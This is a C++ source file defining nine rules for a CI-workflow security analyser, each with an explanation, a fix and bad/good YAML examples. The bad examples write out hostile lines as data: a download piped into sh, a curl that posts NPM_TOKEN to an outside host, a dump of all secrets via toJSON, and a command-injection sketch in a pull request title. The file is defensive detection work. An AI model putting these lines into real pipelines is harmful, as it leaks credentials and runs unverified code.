#include "analyzers/checks/risky_ci/rules.hpp"

#include <array>

namespace peer::ci {
namespace {

constexpr std::string_view kWorkflow = ".github/workflows/build.yml";
constexpr std::string_view kHardening =
    "https://docs.github.com/en/actions/security-for-github-actions/security-guides/"
    "security-hardening-for-github-actions";

// beginnings of workflows, so that each example shows one thing
#define PEER_HEAD \
  "on: push\npermissions: read-all\njobs:\n  a:\n    runs-on: ubuntu-24.04\n    steps:\n"
#define PEER_PINNED "actions/checkout@0123456789abcdef0123456789abcdef01234567\n"

RuleInfo unpinned_action() {
  return {
      .id = "ci-unpinned-action",
      .category = "supply-chain",
      .severity = Severity::warning,
      .confidence = 0.9,
      .title = "action that is not pinned to a commit",
      .why =
          "Whoever controls the action's repository can move the tag or branch to other "
          "code, which then runs with "
          "this workflow's secrets.",
      .help =
          "Pin it to the full commit id and note the version in a comment: uses: "
          "owner/action@<40 hex digits> # v1.2.3",
      .cwe = {829},
      .references = {kHardening},
      .bad = {{.path = kWorkflow,
               .code = PEER_HEAD "      - uses: acme/deploy@v2\n",
               .lines = {7}}},
      .good = {{.path = kWorkflow,
                .code = PEER_HEAD "      - uses: " PEER_PINNED "      - uses: ./tools/setup\n"}},
  };
}

RuleInfo untrusted_checkout() {
  return {
      .id = "ci-untrusted-checkout",
      .category = "supply-chain",
      .severity = Severity::error,
      .confidence = 0.9,
      .title = "privileged workflow that checks out a stranger's code",
      .why =
          "The workflow runs with the secrets and write token of this repository, and what "
          "it checks out was written "
          "by whoever opened the pull request: their build scripts can take both.",
      .help =
          "Use the pull_request trigger, or do not check out the head and treat its files "
          "as data only.",
      .cwe = {829, 94},
      .references = {kHardening},
      .bad = {{.path = kWorkflow,
               .code = "on: pull_request_target\npermissions: read-all\njobs:\n  a:\n    steps:\n  "
                       "    - uses: " PEER_PINNED
                       "        with:\n          ref: ${{ github.event.pull_request.head.sha }}\n",
               .lines = {8}}},
      .good = {{.path = kWorkflow,
                .code =
                    "on: pull_request\npermissions: read-all\njobs:\n  a:\n    steps:\n      - "
                    "uses: " PEER_PINNED
                    "        with:\n          ref: ${{ github.event.pull_request.head.sha }}\n"}},
  };
}

RuleInfo script_injection() {
  return {
      .id = "ci-script-injection",
      .category = "supply-chain",
      .severity = Severity::error,
      .confidence = 0.95,
      .title = "text from outside pasted into a command",
      .why =
          "The expression is replaced before the shell sees the line: a title such as `\"; "
          "curl ... #` becomes a command.",
      .help =
          "Pass it through an environment variable (env: TITLE: ${{ ... }}) and use "
          "\"$TITLE\" in the command.",
      .cwe = {78, 94},
      .references = {kHardening},
      .bad = {{.path = kWorkflow,
               .code = PEER_HEAD "      - run: echo \"${{ github.event.pull_request.title }}\"\n",
               .lines = {7}}},
      .good = {{.path = kWorkflow,
                .code =
                    PEER_HEAD "      - run: echo \"$TITLE\"\n        env:\n          TITLE: ${{ "
                              "github.event.pull_request.title }}\n"}},
  };
}

RuleInfo piped_download() {
  return {
      .id = "ci-piped-download",
      .category = "supply-chain",
      .severity = Severity::warning,
      .confidence = 0.85,
      .title = "download that is run unseen",
      .why =
          "Whoever controls the server, or the way to it, decides what runs in the build, "
          "and nothing shows later what it was.",
      .help =
          "Download to a file, compare its checksum with one in the repository, then run "
          "it; or use a package.",
      .cwe = {494},
      .bad = {{.path = kWorkflow,
               .code = PEER_HEAD "      - run: curl -sSf https://get.acme.net | sh\n",
               .lines = {7}}},
      .good = {{.path = kWorkflow,
                .code = PEER_HEAD
                "      - run: curl -sSf https://get.acme.net -o get.sh && sha256sum -c get.sum\n"}},
  };
}

RuleInfo secret_use() {
  return {
      .id = "ci-secret-use",
      .category = "supply-chain",
      .severity = Severity::info,
      .confidence = 0.9,
      .title = "use of a secret",
      .why =
          "One more place can leak it. Stolen accounts have been used to add such lines to "
          "thousands of workflows.",
      .help =
          "Check that the step needs it and that nothing prints or sends it; give it to "
          "that step only.",
      .cwe = {200},
      .bad = {{.path = kWorkflow,
               .code = PEER_HEAD
               "      - run: ./deploy\n        env:\n          KEY: ${{ secrets.DEPLOY_KEY }}\n",
               .lines = {9},
               .before = PEER_HEAD "      - run: ./deploy\n"}},
      .good = {{.path = kWorkflow,
                .code = PEER_HEAD
                "      - run: ./deploy\n        env:\n          KEY: ${{ secrets.GITHUB_TOKEN }}\n",
                .before = PEER_HEAD "      - run: ./deploy\n"}},
  };
}

RuleInfo secret_sent() {
  return {
      .id = "ci-secret-sent",
      .category = "supply-chain",
      .severity = Severity::error,
      .confidence = 0.8,
      .title = "secrets sent away or handed on as a whole",
      .why =
          "It is how secrets are stolen from builds: all of them are put into one value, or "
          "one is sent in the body of a request.",
      .help =
          "Name the secrets that are needed, and give them to the tool through its "
          "environment.",
      .cwe = {200},
      .bad = {{.path = kWorkflow,
               .code = PEER_HEAD
               "      - run: curl -d \"t=${{ secrets.NPM_TOKEN }}\" https://acme.net\n",
               .lines = {7}},
              {.path = kWorkflow,
               .code = PEER_HEAD "      - run: echo '${{ toJSON(secrets) }}' > a\n",
               .lines = {7}}},
      .good = {{.path = kWorkflow,
                .code = PEER_HEAD "      - run: curl -H \"Authorization: Bearer ${{ "
                                  "secrets.TOKEN }}\" https://acme.net\n"}},
  };
}

RuleInfo permissions() {
  return {
      .id = "ci-permissions",
      .category = "supply-chain",
      .severity = Severity::info,
      .confidence = 0.8,
      .title = "workflow with more rights than it names",
      .why =
          "Without `permissions` the token has the repository's default rights, often to "
          "write; with write-all it has every right.",
      .help =
          "Write `permissions: contents: read` at the top, and more only for the jobs that "
          "need it.",
      .cwe = {250},
      .references = {kHardening},
      .bad = {{.path = kWorkflow,
               .code = "on: push\njobs:\n  a:\n    runs-on: ubuntu-24.04\n",
               .lines = {1}},
              {.path = kWorkflow,
               .code = "on: push\npermissions: write-all\njobs:\n  a:\n    steps: []\n",
               .lines = {2}}},
      .good = {{.path = kWorkflow,
                .code = "on: push\npermissions:\n  contents: read\njobs:\n  a:\n    steps: []\n"}},
  };
}

RuleInfo self_hosted_runner() {
  return {
      .id = "ci-self-hosted-runner",
      .category = "supply-chain",
      .severity = Severity::warning,
      .confidence = 0.6,
      .title = "pull requests run on a machine of one's own",
      .why =
          "In a public repository anyone can open a pull request, whose code then runs on "
          "that machine and may stay there.",
      .help =
          "Run pull requests on hosted runners, or on runners that are thrown away after "
          "each job.",
      .cwe = {829},
      .references = {kHardening},
      .bad = {{.path = kWorkflow,
               .code = "on: [push, pull_request]\n"
                       "permissions: read-all\n"
                       "jobs:\n"
                       "  a:\n"
                       "    runs-on: [self-hosted, linux]\n",
               .lines = {5}}},
      .good = {{.path = kWorkflow,
                .code = "on: push\n"
                        "permissions: read-all\n"
                        "jobs:\n"
                        "  a:\n"
                        "    runs-on: [self-hosted, linux]\n"}},
  };
}

RuleInfo remote_include() {
  return {
      .id = "ci-remote-include",
      .category = "supply-chain",
      .severity = Severity::warning,
      .confidence = 0.8,
      .title = "pipeline that is read from an address",
      .why =
          "Whoever controls that address decides what the pipeline does, without a commit "
          "here.",
      .help = "Copy the file into the repository, or include it from a project at a fixed commit.",
      .cwe = {829},
      .bad = {{.path = ".gitlab-ci.yml",
               .code = "include:\n  - remote: 'https://acme.net/ci.yml'\n",
               .lines = {2}}},
      .good = {{.path = ".gitlab-ci.yml", .code = "include:\n  - local: ci/build.yml\n"}},
  };
}

#undef PEER_HEAD
#undef PEER_PINNED

/// By Rule.
const std::array<RuleInfo, 9>& table() {
  static const std::array<RuleInfo, 9> kRules{
      unpinned_action(), untrusted_checkout(), script_injection(),   piped_download(), secret_use(),
      secret_sent(),     permissions(),        self_hosted_runner(), remote_include()};
  return kRules;
}

}  // namespace

std::span<const RuleInfo> rules() { return table(); }

}  // namespace peer::ci
